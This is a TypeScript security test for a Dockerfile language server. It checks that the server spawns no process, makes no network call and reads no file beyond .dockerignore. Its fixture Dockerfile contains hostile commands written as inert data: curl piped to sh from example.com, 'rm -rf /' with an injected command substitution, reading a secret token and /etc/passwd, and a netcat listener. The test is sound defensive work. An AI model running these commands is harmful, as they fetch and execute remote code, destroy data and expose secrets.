// The server never runs anything from a Dockerfile, opens no network connection, and reads no
// file except a .dockerignore beside the document. A preload records every process start,
// connection and file read while every feature runs on a Dockerfile full of commands and URLs.
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, expect, it } from 'vitest';
import { LspTestClient } from './client';

const DOCKERFILE = `# syntax=docker/dockerfile:1
# check=skip=JSONArgsRecommended
ARG BASE=https://example.com/evil
FROM ubuntu:24.04 AS build
ADD https://example.com/install.sh /tmp/install.sh
ADD git@github.com:org/repo.git /src
RUN curl -fsSL https://example.com/x | sh && rm -rf / $(touch /tmp/pwned)
RUN --mount=type=secret,id=token cat /run/secrets/token
COPY --from=build /etc/passwd /x
HEALTHCHECK CMD wget -qO- http://localhost/ || exit 1
CMD ["sh", "-c", "nc -l 4444"]
`;

describe('security', () => {
  it('no process, network or file access beyond .dockerignore beside the document', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'dockerfile-lsp-security-'));
    const log = path.join(dir, 'access.log');
    writeFileSync(log, '');
    writeFileSync(path.join(dir, '.dockerignore'), 'node_modules\n');
    writeFileSync(path.join(dir, 'Dockerfile'), DOCKERFILE);
    const uri = pathToFileURL(path.join(dir, 'Dockerfile')).toString();
    process.env.SANDBOX_LOG = log;
    const client = await LspTestClient.start({ nodeArgs: ['--require', path.join(__dirname, 'sandbox.cjs')] });
    try {
      await client.open(uri, DOCKERFILE);
      await client.diagnosticsFor(uri, 1);
      const doc = { textDocument: { uri } };
      const lines = DOCKERFILE.split('\n');
      const requests: [string, unknown][] = [
        ['textDocument/documentSymbol', doc],
        ['textDocument/foldingRange', doc],
        ['textDocument/semanticTokens/full', doc],
        ['textDocument/documentLink', doc],
        ['textDocument/codeLens', doc],
        ['textDocument/formatting', { ...doc, options: { tabSize: 4, insertSpaces: true } }],
        ['textDocument/inlayHint', { ...doc, range: { start: { line: 0, character: 0 }, end: { line: lines.length, character: 0 } } }],
        ['workspace/symbol', { query: '' }],
      ];
      for (let line = 0; line < lines.length; line++) {
        for (let character = 0; character <= lines[line].length; character += 3) {
          const position = { line, character };
          requests.push(['textDocument/hover', { ...doc, position }]);
          requests.push(['textDocument/completion', { ...doc, position }]);
          requests.push(['textDocument/definition', { ...doc, position }]);
          requests.push(['textDocument/references', { ...doc, position, context: { includeDeclaration: true } }]);
          requests.push(['textDocument/signatureHelp', { ...doc, position }]);
        }
      }
      for (const [method, params] of requests) {
        await client.request(method, params).catch(() => undefined);
      }
      const diagnostics = await client.diagnosticsFor(uri, 1);
      await client.request('textDocument/codeAction', { ...doc, range: { start: { line: 0, character: 0 }, end: { line: lines.length, character: 0 } }, context: { diagnostics } });
      const accesses = readFileSync(log, 'utf8').split('\n').filter(Boolean);
      const allowed = (entry: string) => /^fs(\.promises)?\.(readFile|stat|open)\S* \S*\.dockerignore$/.test(entry) && entry.includes(dir);
      expect(accesses.filter((a) => !allowed(a))).toEqual([]);
      expect(accesses.some(allowed)).toBe(true);
    } finally {
      await client.stop();
    }
  }, 60_000);
});
